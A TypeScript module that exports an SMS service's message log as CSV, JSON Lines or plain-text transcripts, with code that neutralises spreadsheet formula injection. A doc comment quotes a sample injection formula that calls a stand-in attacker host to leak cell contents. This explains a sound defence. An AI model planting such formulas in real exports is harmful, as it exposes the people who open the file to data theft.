import { encodeGlobalID } from '@pothos/plugin-relay';
import type { Prisma } from '../db/client';
import type { Services } from '../services';
import { SwitchboardError } from '../errors';
import { exportBatches, type ExportRow } from './reader';

/**
 * Export of the delivery log or of one conversation as CSV, JSON Lines or a plain-text
 * transcript: each batch the reader (./reader) yields is encoded into UTF-8 pieces
 * (exportChunks); the HTTP route (src/edge/export.ts) writes the pieces and waits for the
 * socket to drain before the next batch is read.
 */

export const EXPORT_FORMATS = ['csv', 'jsonl', 'txt'] as const;
export type ExportFormat = (typeof EXPORT_FORMATS)[number];

export const CSV_COLUMNS = [
  'id',
  'createdAt',
  'direction',
  'status',
  'provider',
  'from',
  'to',
  'body',
  'mediaUrls',
  'segments',
  'encoding',
  'errorCode',
  'errorMessage',
  'providerMessageId',
  'conversationId',
] as const;

/** One exported message: the same fields, in the same order, in CSV and JSON Lines. */
export function exportRecord(row: ExportRow) {
  return {
    id: encodeGlobalID('Message', row.id),
    createdAt: row.createdAt.toISOString(),
    direction: row.direction,
    status: row.status,
    provider: row.provider,
    from: row.from,
    to: row.to,
    body: row.body,
    mediaUrls: mediaUrlsOf(row),
    segments: row.segments,
    encoding: row.encoding,
    errorCode: row.errorCode,
    errorMessage: row.errorMessage,
    providerMessageId: row.providerMessageId,
    conversationId: row.conversationId ? encodeGlobalID('Conversation', row.conversationId) : null,
  };
}

function mediaUrlsOf(row: ExportRow): string[] {
  try {
    const urls = JSON.parse(row.mediaUrls) as unknown;
    return Array.isArray(urls) ? urls.map(String) : [];
  } catch {
    return [];
  }
}

/** RFC 4180: a field with a comma, a double quote or a line break is quoted, quotes doubled. */
export function csvField(value: string | number | null): string {
  if (value === null) return '';
  const text = String(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

const CRLF = '\r\n';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/**
 * A spreadsheet opening the CSV runs a cell that starts with = + - @ (or a tab or CR before
 * one) as a formula: a customer's SMS reading `=HYPERLINK("https://evil.example/?"&A1)` would
 * run on the exporter's machine. Such cells get a leading `'`, which spreadsheets show as text.
 * A plain number (`+14155552671`, `-3`) evaluates to itself, so phone numbers are kept as is.
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

export function csvLine(row: ExportRow): string {
  const record = exportRecord(row);
  // Media URLs are space-separated: a URL cannot hold an unencoded space.
  return (
    CSV_COLUMNS.map((column) => {
      const value = column === 'mediaUrls' ? record.mediaUrls.join(' ') : record[column];
      return csvField(typeof value === 'string' ? neutralizeFormula(value) : value);
    }).join(',') + CRLF
  );
}

export function jsonLine(row: ExportRow): string {
  // JSON.stringify escapes U+2028/U+2029 and every control character, so one message is one line.
  return `${JSON.stringify(exportRecord(row))}\n`;
}

/** `2026-11-27 10:00:00Z  +14155552671 → +14155552680  [DELIVERED]  body` */
export function transcriptLine(row: ExportRow): string {
  const at = `${row.createdAt.toISOString().slice(0, 19).replace('T', ' ')}Z`;
  const status = row.errorCode ? `${row.status} ${row.errorCode}` : row.status;
  const head = `${at}  ${row.from} → ${row.to}  [${status}]  `;
  // Continuation lines of a multi-line body are indented under the body's first line.
  const body = row.body.replace(/\r\n?/g, '\n').replaceAll('\n', `\n${' '.repeat(head.length)}`);
  const media = mediaUrlsOf(row);
  return `${head}${body}${media.length ? `${body ? '  ' : ''}[media: ${media.join(' ')}]` : ''}\n`;
}

export interface ExportEncoder {
  contentType: string;
  extension: string;
  header: string;
  line(row: ExportRow): string;
}

export const ENCODERS: Record<ExportFormat, ExportEncoder> = {
  csv: { contentType: 'text/csv; charset=utf-8; header=present', extension: 'csv', header: CSV_COLUMNS.join(',') + CRLF, line: csvLine },
  jsonl: { contentType: 'application/jsonl; charset=utf-8', extension: 'jsonl', header: '', line: jsonLine },
  txt: { contentType: 'text/plain; charset=utf-8', extension: 'txt', header: '', line: transcriptLine },
};

const CHUNK_CHARS = 32 * 1024;

/**
 * The export's bytes (the header, then every message) in UTF-8 pieces of about 32,000
 * characters, for the HTTP route to write one at a time, waiting for 'drain'.
 *
 * Each batch is encoded whole and then emptied before its pieces are handed out, so that while
 * a slow reader holds the export up, the server holds one batch's bytes (outside V8's heap), not
 * its rows. Emptied, because a Prisma query promise keeps its result reachable from V8's old
 * generation until the next full GC (the AccessorPair of the promise's `spec` getter, which V8
 * allocates there, pins the closure that caches the result): a batch left whole survives every
 * young-generation GC, and the old generation fills with ~100 MB of dead batches before V8 runs a
 * full GC (bench/export.ts).
 */
export async function* exportChunks(services: Services, where: Prisma.MessageWhereInput, encoder: ExportEncoder): AsyncGenerator<Buffer> {
  if (encoder.header) yield Buffer.from(encoder.header);
  for await (const batch of exportBatches(services, where)) {
    const chunks: Buffer[] = [];
    let text = '';
    for (const row of batch) {
      text += encoder.line(row);
      if (text.length >= CHUNK_CHARS) {
        chunks.push(Buffer.from(text));
        text = '';
      }
    }
    if (text) chunks.push(Buffer.from(text));
    batch.length = 0;
    yield* chunks;
  }
}

export function parseFormat(value: string | null | undefined): ExportFormat {
  const format = (value ?? 'csv').toLowerCase();
  if (!(EXPORT_FORMATS as readonly string[]).includes(format)) {
    throw new SwitchboardError('INVALID_INPUT', `format must be one of ${EXPORT_FORMATS.join(', ')}`, 'format');
  }
  return format as ExportFormat;
}
